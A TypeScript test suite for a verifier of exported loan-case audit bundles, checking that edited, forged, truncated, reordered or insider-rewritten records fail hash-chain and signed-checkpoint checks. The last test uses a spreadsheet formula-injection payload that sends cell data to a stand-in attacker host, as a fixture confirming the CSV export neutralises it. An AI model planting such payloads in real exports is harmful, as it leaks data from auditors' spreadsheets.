import { execFile } from 'node:child_process';
import { createHash, randomBytes } from 'node:crypto';
import { cp, mkdir, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildCaseBundle, writeCaseBundle, type BundleManifest } from '../../audit/case-bundle.js';
import { toStoredEvent } from '../../db/event-store.js';
import { recomputedHash } from '../../db/hash-chain.js';
import { createCheckpoint } from '../../audit/checkpoints.js';
import { fundReviewer } from '../support/actors.js';
import { createTestDatabase, type TestDatabase } from '../support/database.js';
import { fixedClock, tamperAsSuperuser } from '../db/support.js';
import { type BundleLine, checkpointNow, forgeBundle, LoanCase, testKey } from './support.js';

const sha256 = (text: string) => createHash('sha256').update(text, 'utf8').digest('hex');

const VERIFIER = fileURLToPath(new URL('../../tools/verify-bundle.mjs', import.meta.url));
const run = promisify(execFile);
const key = testKey();
let database: TestDatabase;
let root: string;
let loan: LoanCase;
let good: string;

interface VerifierResult {
  exitCode: number;
  ok: boolean;
  checks: { name: string; ok: boolean; detail: string }[];
  warnings: string[];
}

/** Runs the verifier as an outside auditor would: plain node, no database, no environment. */
async function verify(dir: string, ...args: string[]): Promise<VerifierResult> {
  const result = await run(process.execPath, [VERIFIER, dir, '--json', ...args], { env: {} }).catch((error: { code: number; stdout: string }) => ({ stdout: error.stdout, code: error.code }));
  const exitCode = 'code' in result ? result.code : 0;
  return { exitCode, ...(JSON.parse(result.stdout) as Omit<VerifierResult, 'exitCode'>) };
}
const failed = (r: VerifierResult) => r.checks.filter((c) => !c.ok).map((c) => c.name);

async function exportTo(name: string, caseId: string): Promise<string> {
  const dir = path.join(root, name);
  // Exported after what it holds, as a real export is (the verifier fails an export dated before its events or checkpoint).
  await writeCaseBundle(dir, await buildCaseBundle(database.db, caseId, { now: () => new Date(), exportedBy: 'test' }));
  return dir;
}

async function copyOf(name: string): Promise<string> {
  const dir = path.join(root, name);
  await cp(good, dir, { recursive: true });
  return dir;
}

beforeAll(async () => {
  database = await createTestDatabase();
  root = path.join(tmpdir(), `youchuang-bundles-${randomBytes(4).toString('hex')}`);
  await mkdir(root, { recursive: true });
  // Other cases around it, so the streams root has siblings on the path.
  for (let i = 0; i < 4; i++) await new LoanCase(database.db).submit(`2026-03-0${i + 1}T02:00:00.000Z`);
  loan = await new LoanCase(database.db).toFirstRepayment();
  await new LoanCase(database.db).submit('2026-03-06T02:00:00.000Z');
  await checkpointNow(database.db, key);
  good = await exportTo('good', loan.caseId);
});
afterAll(async () => {
  await rm(root, { recursive: true, force: true });
  await database?.drop();
});

describe('the standalone bundle verifier', () => {
  it('passes a bundle as exported, with every check named', async () => {
    const manifest = JSON.parse(await readFile(path.join(good, 'manifest.json'), 'utf8')) as BundleManifest;
    expect(manifest).toMatchObject({ caseId: loan.caseId, caseType: 'chuying-loan', events: { count: 6, head: { version: 6 } }, checkpoint: { checkpointNo: 1, keyId: key.keyId }, inclusion: { version: 6 } });
    expect(manifest.inclusion!.proof.length).toBeGreaterThan(1);
    const csv = await readFile(path.join(good, 'summary.csv'), 'utf8');
    // In Chinese for the auditor's spreadsheet: the header, the event by its title beside its recorded type, the role and the department by name, the time in Beijing time too.
    expect(csv.split('\r\n')[0]).toBe('\uFEFF版本,全局序号,记录时间（UTC）,记录时间（北京时间）,事件类型,事件,操作人,角色,部门,账号,决定人,哈希');
    expect(csv.split('\r\n')[2]).toMatch(/^2,\d+,[^,]+Z,\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2},MaterialsAccepted,材料审查通过,王审查,工作人员,杨浦区 V聚场基金,/);

    const result = await verify(good, '--key-id', key.keyId);
    expect(failed(result)).toEqual([]);
    expect(result).toMatchObject({ exitCode: 0, ok: true, warnings: [] });
    expect(result.checks.map((c) => c.name)).toEqual(['format', 'file events.jsonl', 'file summary.csv', 'hash chain', 'head', 'summary.csv', 'checkpoint signature', 'signing key', 'checkpoint coverage']);
    expect(result.checks.find((c) => c.name === 'checkpoint coverage')!.detail).toBe('第 1–6 版正是检查点 #1 签署的事件');
  });

  it('accepts the trusted key as a PEM file too, and warns when no trusted key is given', async () => {
    const pem = path.join(root, 'signer.pem');
    await writeFile(pem, key.publicKeyPem);
    expect((await verify(good, '--public-key', pem)).ok).toBe(true);
    const untrusted = await verify(good);
    expect(untrusted.ok).toBe(true);
    expect(untrusted.warnings.join(' ')).toContain(`检查点由密钥 ${key.keyId} 签署；未指定可信密钥`);
  });

  it('fails a payload edited in events.jsonl: the file hash and the chain', async () => {
    const dir = await copyOf('edited');
    const file = path.join(dir, 'events.jsonl');
    await writeFile(file, (await readFile(file, 'utf8')).replace('"approvedAmountFen":36000000', '"approvedAmountFen":46000000'));
    const result = await verify(dir, '--key-id', key.keyId);
    expect(result.exitCode).toBe(1);
    expect(failed(result)).toEqual(['file events.jsonl', 'hash chain']);
    expect(result.checks.find((c) => c.name === 'hash chain')!.detail).toBe('第 4 版（第 4 行）：内容与其哈希不符（写入后被改动）');
  });

  it('recomputes each event by the hash version it names, and fails an event whose version was changed', async () => {
    const lines = (await readFile(path.join(good, 'events.jsonl'), 'utf8')).trim().split('\n').map((l) => JSON.parse(l) as { hashVersion?: number });
    expect(lines.map((l) => l.hashVersion)).toEqual([2, 2, 2, 2, 2, 2]);
    const dir = await copyOf('version-changed');
    const file = path.join(dir, 'events.jsonl');
    await writeFile(file, (await readFile(file, 'utf8')).split('\n').map((l, i) => (i === 2 ? l.replace('"hashVersion":2', '"hashVersion":1') : l)).join('\n'));
    const result = await verify(dir, '--key-id', key.keyId);
    expect(failed(result)).toEqual(['file events.jsonl', 'hash chain']);
    expect(result.checks.find((c) => c.name === 'hash chain')!.detail).toBe('第 3 版（第 3 行）：内容与其哈希不符（写入后被改动）');
  });

  it('still reads a bundle written before events named their hash version (format /1, every hash version 1)', async () => {
    const dir = await copyOf('format-1');
    await forgeBundle(
      dir,
      (lines) => lines.map(({ hashVersion: _, ...line }) => line as BundleLine),
      (manifest) => {
        (manifest as { format: string }).format = 'youchuang-case-bundle/1';
      },
    );
    const result = await verify(dir, '--key-id', key.keyId);
    expect(result.checks.find((c) => c.name === 'format')).toMatchObject({ ok: true, detail: expect.stringContaining('youchuang-case-bundle/1') });
    expect(result.checks.find((c) => c.name === 'hash chain')).toMatchObject({ ok: true, detail: '6 个事件，第 1–6 版，每个哈希都已重算' });
    // Its hashes are not the ones the checkpoint signed (they were recomputed here as version 1), and only that fails.
    expect(failed(result)).toEqual(['checkpoint coverage']);
  });

  it('fails a rewritten bundle (edited, every hash and the manifest recomputed) on the signed checkpoint', async () => {
    const dir = await copyOf('rewritten');
    await forgeBundle(dir, (lines) => lines.map((l) => (l.streamVersion === 4 ? { ...l, data: { ...l.data, approvedAmountFen: 46_000_000 } } : l)));
    const result = await verify(dir, '--key-id', key.keyId);
    expect(failed(result)).toEqual(['checkpoint coverage']);
    expect(result.checks.find((c) => c.name === 'checkpoint coverage')!.detail).toContain('证据包中的第 6 版却是');
    expect(result.checks.find((c) => c.name === 'checkpoint coverage')!.detail).toContain('签名覆盖的事件被改动、删除、重排或截短');
  });

  it('fails a truncated bundle (the last events dropped, everything else recomputed)', async () => {
    const dir = await copyOf('truncated');
    await forgeBundle(dir, (lines) => lines.slice(0, 4));
    expect(failed(await verify(dir, '--key-id', key.keyId))).toEqual(['checkpoint coverage']);
  });

  it('fails a reordered bundle (two events swapped and renumbered, everything recomputed)', async () => {
    const dir = await copyOf('reordered');
    await forgeBundle(dir, (lines) => {
      const swapped = [lines[0]!, lines[2]!, lines[1]!, ...lines.slice(3)];
      return swapped.map((l, i) => ({ ...l, streamVersion: i + 1, globalPosition: lines[i]!.globalPosition }));
    });
    expect(failed(await verify(dir, '--key-id', key.keyId))).toEqual(['checkpoint coverage']);
  });

  it('fails a checkpoint altered after signing, and one signed by a key other than the trusted one', async () => {
    const altered = await copyOf('altered-checkpoint');
    const manifest = JSON.parse(await readFile(path.join(altered, 'manifest.json'), 'utf8')) as BundleManifest;
    manifest.checkpoint!.eventCount += 1;
    await writeFile(path.join(altered, 'manifest.json'), JSON.stringify(manifest));
    expect(failed(await verify(altered, '--key-id', key.keyId))).toEqual(['checkpoint signature']);

    const other = testKey();
    expect(failed(await verify(good, '--key-id', other.keyId))).toEqual(['signing key']);
  });

  it('passes a bundle exported before the summary was in Chinese, with its English columns; a changed row still fails it', async () => {
    const dir = await copyOf('english-summary');
    const events = (await readFile(path.join(dir, 'events.jsonl'), 'utf8')).trim().split('\n').map((line) => JSON.parse(line) as { streamVersion: number; globalPosition: number; recordedAt: string; type: string; hash: string; metadata: { actor: { displayName: string; role: string; department?: string; accountId: string } } });
    const englishSummary = (rename?: [string, string]) => {
      const rows = events.map((e) => [e.streamVersion, e.globalPosition, e.recordedAt, e.type, e.metadata.actor.displayName, e.metadata.actor.role, e.metadata.actor.department ?? '', e.metadata.actor.accountId, e.hash].join(','));
      const csv = `\uFEFF${['version,global_position,recorded_at,event_type,actor_name,actor_role,actor_department,actor_account_id,hash', ...rows].join('\r\n')}\r\n`;
      return rename ? csv.replace(rename[0], rename[1]) : csv;
    };
    const withSummary = async (csv: string) => {
      await writeFile(path.join(dir, 'summary.csv'), csv);
      const manifest = JSON.parse(await readFile(path.join(dir, 'manifest.json'), 'utf8')) as BundleManifest;
      manifest.files['summary.csv'] = { sha256: sha256(csv), bytes: Buffer.byteLength(csv) };
      await writeFile(path.join(dir, 'manifest.json'), JSON.stringify(manifest));
      return verify(dir, '--key-id', key.keyId);
    };
    expect(failed(await withSummary(englishSummary()))).toEqual([]);
    expect(failed(await withSummary(englishSummary(['李决策', '王审查'])))).toEqual(['summary.csv']);
  });

  it('fails a summary.csv that no longer describes the events, even with its hash recomputed', async () => {
    const dir = await copyOf('summary');
    const csv = (await readFile(path.join(dir, 'summary.csv'), 'utf8')).replace('李决策', '王审查');
    await writeFile(path.join(dir, 'summary.csv'), csv);
    const manifest = JSON.parse(await readFile(path.join(dir, 'manifest.json'), 'utf8')) as BundleManifest;
    manifest.files['summary.csv'] = { sha256: sha256(csv), bytes: Buffer.byteLength(csv) };
    await writeFile(path.join(dir, 'manifest.json'), JSON.stringify(manifest));
    const result = await verify(dir, '--key-id', key.keyId);
    expect(failed(result)).toEqual(['summary.csv']);
    expect(result.checks.find((c) => c.name === 'summary.csv')!.detail).toBe('summary.csv 第 4 行与第 4 版事件不符');
  });

  it('fails a bundle exported from a database an insider rewrote consistently after the checkpoint', async () => {
    const victim = await new LoanCase(database.db).toApproval();
    await createCheckpoint(database.db, key, { now: fixedClock('2026-06-02T00:00:00Z'), reason: 'on-demand', requestedBy: 'test' });
    // Rewrite version 4 of the victim case and every hash after it, and its head, as a superuser.
    const rows = await database.db.selectFrom('events').selectAll().where('stream_id', '=', victim.caseId).orderBy('stream_version').execute();
    const last = rows[3]!;
    const data = { ...last.payload, approvedAmountFen: 50_000_000 };
    const hash = recomputedHash({ ...toStoredEvent(last), data });
    await tamperAsSuperuser(database.url, [
      { text: 'UPDATE events SET payload = $1, hash = $2 WHERE event_id = $3', values: [JSON.stringify(data), hash, last.event_id] },
      { text: 'UPDATE streams SET head_hash = $1 WHERE stream_id = $2', values: [hash, victim.caseId] },
    ]);
    const dir = await exportTo('from-tampered-db', victim.caseId);
    const result = await verify(dir, '--key-id', key.keyId);
    expect(failed(result)).toEqual(['checkpoint coverage']);
    // Put back, for the tests after this one: no new checkpoint is signed over a rewritten record.
    await tamperAsSuperuser(database.url, [
      { text: 'UPDATE events SET payload = $1, hash = $2 WHERE event_id = $3', values: [JSON.stringify(last.payload), last.hash, last.event_id] },
      { text: 'UPDATE streams SET head_hash = $1 WHERE stream_id = $2', values: [last.hash, victim.caseId] },
    ]);
  });

  it('fails a case with events after the checkpoint, and passes it with --allow-unsigned-tail, loudly', async () => {
    const later = await new LoanCase(database.db).submit('2026-05-01T02:00:00.000Z');
    await createCheckpoint(database.db, key, { now: fixedClock('2026-06-03T00:00:00Z'), reason: 'on-demand', requestedBy: 'test' });
    await later.act(fundReviewer, { type: 'AcceptMaterials' }, '2026-05-02T02:00:00.000Z');
    const dir = await exportTo('after-checkpoint', later.caseId);
    const strict = await verify(dir, '--key-id', key.keyId);
    expect(strict).toMatchObject({ exitCode: 1, ok: false });
    expect(failed(strict)).toEqual(['unsigned tail']);
    expect(strict.checks.find((c) => c.name === 'unsigned tail')!.detail).toContain('检查点 #3 签署的本案链头是第 1 版，其后的事件是签署之后才记录的；第 2 版（共 1 个事件）未经签名证明');

    const result = await verify(dir, '--key-id', key.keyId, '--allow-unsigned-tail');
    expect(result).toMatchObject({ exitCode: 0, ok: true });
    expect(result.checks.find((c) => c.name === 'checkpoint coverage')!.detail).toBe('第 1 版正是检查点 #3 签署的事件');
    expect(result.warnings).toHaveLength(1);
    expect(result.warnings[0]).toContain('！！！注意：第 2 版没有任何签名证明，只因指定了 --allow-unsigned-tail 才放行');
  });

  it('says how to run it, and exits 2 for a directory that is not a bundle', async () => {
    const usage = await run(process.execPath, [VERIFIER]).catch((error: { code: number; stderr: string }) => error);
    expect(usage).toMatchObject({ code: 2 });
    expect((usage as { stderr: string }).stderr).toContain('用法：node tools/verify-bundle.mjs 证据包目录或-bundle.json文件');
    const missing = await run(process.execPath, [VERIFIER, path.join(root, 'nothing-here')]).catch((error: { code: number }) => error);
    expect(missing).toMatchObject({ code: 2 });
  });

  it('keeps a name a spreadsheet would read as a formula as text in summary.csv, and the verifier reads it back', async () => {
    // Last: its checkpoint would renumber the checkpoints the tests above name. An outside tester named an account =HYPERLINK(…): the auditor's spreadsheet showed a live link in 操作人.
    const formula = '=HYPERLINK("http://evil.example/?x="&A1,"点此")';
    const named = await new LoanCase(database.db).submit('2026-03-07T02:00:00.000Z');
    await named.act({ ...fundReviewer, displayName: formula }, { type: 'AcceptMaterials' }, '2026-03-08T02:00:00.000Z');
    await checkpointNow(database.db, key);
    const dir = await exportTo('formula-name', named.caseId);
    const row = (await readFile(path.join(dir, 'summary.csv'), 'utf8')).split('\r\n')[2]!;
    expect(row).toContain(`,"'=HYPERLINK(""http://evil.example/?x=""&A1,""点此"")",`);
    expect(row).not.toContain(',"=HYPERLINK');
    const result = await verify(dir, '--key-id', key.keyId);
    expect(failed(result)).toEqual([]);
  });
});
